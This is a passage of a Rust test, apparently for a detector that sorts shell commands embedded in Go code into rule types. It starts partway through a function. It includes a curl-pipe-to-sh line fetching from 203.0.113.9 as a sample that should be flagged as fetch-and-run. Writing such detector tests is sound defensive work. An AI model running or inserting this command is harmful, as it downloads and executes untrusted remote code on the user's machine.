        rules(Dialect::Go, &with("curl -s http://203.0.113.9/a | sh\n").unwrap()),
        [Rule::FetchRun]
    );
    assert_eq!(rules(Dialect::Go, &with("git status\nmake build\n").unwrap()), []);
    let table = program.replace("cmd.Stdin = strings.NewReader(rules)", "match(rules)");
    let listed = super::with_embedded(&table, |_| Some("curl http://203.0.113.9/a | sh\n"));
    assert_eq!(rules(Dialect::Go, &listed.unwrap()), []);
    assert_eq!(super::with_embedded(program, |_| None), None);
}
